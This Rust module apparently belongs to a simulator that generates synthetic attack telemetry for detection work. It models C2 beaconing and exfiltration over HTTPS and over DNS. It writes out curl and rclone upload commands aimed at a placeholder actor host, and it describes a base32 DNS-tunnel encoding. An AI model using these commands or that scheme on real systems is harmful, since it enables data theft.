//! Command and control and exfiltration: the implant's jittered check-ins over HTTPS
//! (small, regular connections, the C2 name re-resolved as its record expires); the
//! upload of an archive to the actor's server (`curl.exe` or `rclone.exe` on Windows,
//! `curl` under sudo on Linux) as one long connection with a huge originator byte
//! count; or, with `over: dns`, the data sent by the implant as DNS queries for names
//! under the actor's domain, each carrying a sequence number and a base32 chunk
//! (Sysmon DNS query events on Windows, and the DNS server's view in Zeek `dns`).

use rand::Rng;

use super::{
    Ctx, Env, HOUR, MINUTE, Tls, actor, host_os, lookup, new_proc, payload_path, shell, tls_out,
};
use crate::scenario::Os;
use crate::windows;

/// The most check-ins one step emits.
const MAX_CHECK_INS: usize = 3_000;
/// The most queries a DNS exfiltration emits.
const MAX_DNS_QUERIES: u64 = 20_000;
/// Bytes of data one DNS query carries (two 48-character base32 labels).
const DNS_CHUNK: usize = 60;

pub(super) fn beacon(ctx: &mut Ctx<'_>, env: &mut Env<'_>) {
    let host = env.r.target;
    let windows_host = host_os(ctx, host) == Os::Windows;
    let length = env.duration("for", 8 * HOUR);
    let interval = env.duration("interval", 5 * MINUTE).max(1_000_000_000);
    let jitter: f64 = Some(env.number("jitter", 0.2f64))
        .filter(|j| j.is_finite())
        .unwrap_or(0.2)
        .clamp(0.0, 0.95);
    let ttl = env.duration("dns_ttl", HOUR);
    let domain = env.s.campaign.actor.domain.clone();
    let actor_ip = env.actor_ip().to_string();
    let user_agent = env
        .param(
            "user_agent",
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64; Trident/7.0; rv:11.0) like Gecko",
        )
        .to_string();
    // The implant: the foothold's, else the step's account starts the payload itself.
    let (implant, proxy_user) = match env.state.footholds.get(&host) {
        Some(f) => (
            Some(f.implant.clone()),
            windows::split_account(&f.account).1.to_string(),
        ),
        None if windows_host => {
            let account = env
                .account(ctx)
                .unwrap_or_else(|| format!("{}\\Administrator", ctx.world.netbios));
            let payload = payload_path(env, &account);
            let p = new_proc(ctx, host, &payload, &payload, &account, "Medium");
            (Some(p), windows::split_account(&account).1.to_string())
        }
        None => (None, "-".to_string()),
    };
    let start = env.t;
    let end = start.saturating_add(length);
    let mut t = start + ctx.rng.random_range(0..interval.max(2) / 2);
    let mut last_lookup: Option<i64> = None;
    let mut n = 0;
    while t < end && n < MAX_CHECK_INS {
        if last_lookup.is_none_or(|l| t - l >= ttl) {
            lookup(ctx, host, t, implant.as_ref(), &domain, &actor_ip);
            last_lookup = Some(t);
            t += ctx.rng.random_range(5..60) * 1_000_000;
        }
        let tasked = ctx.rng.random_range(0..100) < 4;
        let sent = ctx.rng.random_range(1_180..1_420u64);
        let received = if tasked {
            ctx.rng.random_range(18_000..240_000u64)
        } else {
            ctx.rng.random_range(3_900..4_300u64)
        };
        let duration = ctx.rng.random_range(0.25..1.4);
        tls_out(
            ctx,
            t,
            &Tls {
                host,
                process: implant.as_ref(),
                user: &proxy_user,
                dst_ip: &actor_ip,
                name: &domain,
                user_agent: &user_agent,
                sent,
                received,
                duration,
            },
        );
        n += 1;
        let spread = ctx.rng.random_range(-jitter..=jitter);
        t = t.saturating_add(
            super::nanos((interval as f64 / 1e9) * (1.0 + spread)).max(1_000_000_000),
        );
    }
    env.t = t.max(start);
}

pub(super) fn exfiltrate(ctx: &mut Ctx<'_>, env: &mut Env<'_>) {
    if env.param("over", "https").eq_ignore_ascii_case("dns") {
        dns_exfiltrate(ctx, env);
        return;
    }
    let host = env.r.target;
    let bytes: u64 = env.number("bytes", 250_000_000u64).min(1_000_000_000_000);
    let rate: f64 = Some(env.number("rate", 9_000_000f64))
        .filter(|r| r.is_finite())
        .unwrap_or(9_000_000.0)
        .max(10_000.0);
    let exfil = env.exfil_ip().to_string();
    let duration = 0.8 + bytes as f64 / rate;
    let sent = bytes + bytes / 45 + 2_400;
    let received = 4_100 + ctx.rng.random_range(0..400u64);
    if host_os(ctx, host) == Os::Linux {
        let file = env.param("file", "/tmp/data.tgz").to_string();
        let user = env.user_name(ctx).unwrap_or_else(|| "root".to_string());
        let data = format!("@{file}");
        let url = format!("https://{exfil}/upload");
        let command = [
            "/usr/bin/curl",
            "-sk",
            "-X",
            "POST",
            "--data-binary",
            &data,
            &url,
        ];
        // The upload runs inside the sudo session.
        let started = super::persist::sudo(ctx, env, &user, &command, (duration * 1e3) as i64);
        let t = started + 60_000_000;
        tls_out(
            ctx,
            t,
            &Tls {
                host,
                process: None,
                user: "-",
                dst_ip: &exfil,
                name: &exfil,
                user_agent: "curl/7.81.0",
                sent,
                received,
                duration,
            },
        );
        return;
    }
    let file = env.param("file", "C:\\ProgramData\\data.7z").to_string();
    let quoted = if file.contains(' ') {
        format!("\"{file}\"")
    } else {
        file.clone()
    };
    let a = actor(ctx, env, host, true);
    let (image, tool_cmd, cmd_cmd, agent) = match env.param("tool", "curl") {
        "rclone" => {
            let exe = "C:\\ProgramData\\rclone.exe";
            let args = format!(
                "copy {quoted} dav:upload --webdav-url https://{exfil}/dav --no-check-certificate -q --transfers 4 --multi-thread-streams 4"
            );
            (
                exe.to_string(),
                format!("{exe} {args}"),
                format!("{exe} {args}"),
                "rclone/v1.66.0",
            )
        }
        _ => {
            let args = format!("-k -X POST --data-binary @{quoted} https://{exfil}/upload");
            (
                "C:\\Windows\\System32\\curl.exe".to_string(),
                format!("curl.exe {args}"),
                format!("curl.exe {args}"),
                "curl/8.4.0",
            )
        }
    };
    let (_, tool) = shell(ctx, env, host, &a, &image, &tool_cmd, &cmd_cmd);
    let proxy_user = windows::split_account(&a.account).1.to_string();
    let t = env.later(ctx, 40, 300);
    tls_out(
        ctx,
        t,
        &Tls {
            host,
            process: Some(&tool),
            user: &proxy_user,
            dst_ip: &exfil,
            name: &exfil,
            user_agent: agent,
            sent,
            received,
            duration,
        },
    );
    env.t = t.saturating_add(super::nanos(duration));
}

/// Exfiltration over DNS: `bytes` (default 200 KB) sent as queries for
/// `<sequence>.<chunk>.<chunk>.<actor domain>`, one every 20–250 ms, by the foothold's
/// implant (Windows) or a shell's process (Linux), answered by the actor's name server
/// through the company's resolver.
fn dns_exfiltrate(ctx: &mut Ctx<'_>, env: &mut Env<'_>) {
    let host = env.r.target;
    let bytes: u64 = env.number("bytes", 200_000u64).max(1);
    let queries = bytes.div_ceil(DNS_CHUNK as u64).min(MAX_DNS_QUERIES);
    let domain = env.s.campaign.actor.domain.clone();
    let actor_ip = env.actor_ip().to_string();
    let implant = env.state.footholds.get(&host).map(|f| f.implant.clone());
    let mut t = env.t;
    let mut data = [0u8; DNS_CHUNK];
    for sequence in 0..queries {
        ctx.rng.fill(&mut data[..]);
        let encoded = base32(&data);
        let (first, second) = encoded.split_at(encoded.len() / 2);
        let name = format!("{sequence:05x}.{first}.{second}.{domain}");
        lookup(ctx, host, t, implant.as_ref(), &name, &actor_ip);
        t += ctx.rng.random_range(20..250) * 1_000_000;
    }
    env.t = t;
}

/// Lower-case RFC 4648 base32 without padding, as DNS tunnels write it.
fn base32(data: &[u8]) -> String {
    const ALPHABET: &[u8; 32] = b"abcdefghijklmnopqrstuvwxyz234567";
    let mut out = String::with_capacity(data.len() * 8 / 5 + 1);
    let (mut buffer, mut bits) = (0u32, 0u32);
    for &b in data {
        buffer = (buffer << 8) | u32::from(b);
        bits += 8;
        while bits >= 5 {
            bits -= 5;
            out.push(ALPHABET[((buffer >> bits) & 31) as usize] as char);
        }
    }
    if bits > 0 {
        out.push(ALPHABET[((buffer << (5 - bits)) & 31) as usize] as char);
    }
    out
}
